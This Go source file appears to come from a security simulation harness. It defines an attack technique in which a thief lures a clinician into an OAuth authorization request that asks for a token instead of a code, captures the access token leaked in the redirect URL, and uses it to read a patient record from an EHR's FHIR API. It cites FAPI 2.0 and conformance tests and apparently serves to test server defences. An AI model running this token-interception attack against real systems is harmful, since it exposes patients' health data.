package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("R-07", Technique{
	Title: "A token in the redirect",
	Story: "The thief sends a clinician a link to her own authorization server, in the EHR's name, that asks for a token instead of a code. She sees what she " +
		"always sees. The answer gets lost on its way to the EHR, but it had the token in its URL, and that the thief has. No client had to " +
		"authenticate for it, and it is bound to no key.",
	Reads: []string{"FAPI 2.0 SP 5.3.2.2-1", "RFC 9700 s2.1.2", "OIDF conformance suite, ensure-response-type-token-fails"},
	Needs: []event.Vantage{event.FrontHeld},
	Run: func(ctx context.Context, g Ground) error {
		meta, err := discover(ctx, g, g.Target().Issuer)
		if err != nil {
			return err
		}
		request := url.Values{
			"client_id": {g.Target().ClientID}, "redirect_uri": {g.Target().ClientCallback}, "scope": {"openid user/*.rs"}, "state": {g.Random()},
			"code_challenge": {fapi.Hash(g.Random())}, "code_challenge_method": {"S256"}, "resource": {g.Target().FHIRBase},
			"response_type": {"token"}, // instead of code
			"response_mode": {"query"},
		}
		if err := g.Lure(meta.AuthorizationEndpoint + "?" + request.Encode()); err != nil {
			return err
		}
		for _, m := range newestFirst(g.Overheard(event.FrontHeld)) {
			if token := queryOf(m.URL).Get("access_token"); token != "" {
				_, err := send(g, withToken(get(ctx, record(g, stranger(g))), "Bearer", token, ""))
				return err
			}
		}
		return ErrStopped
	},
})
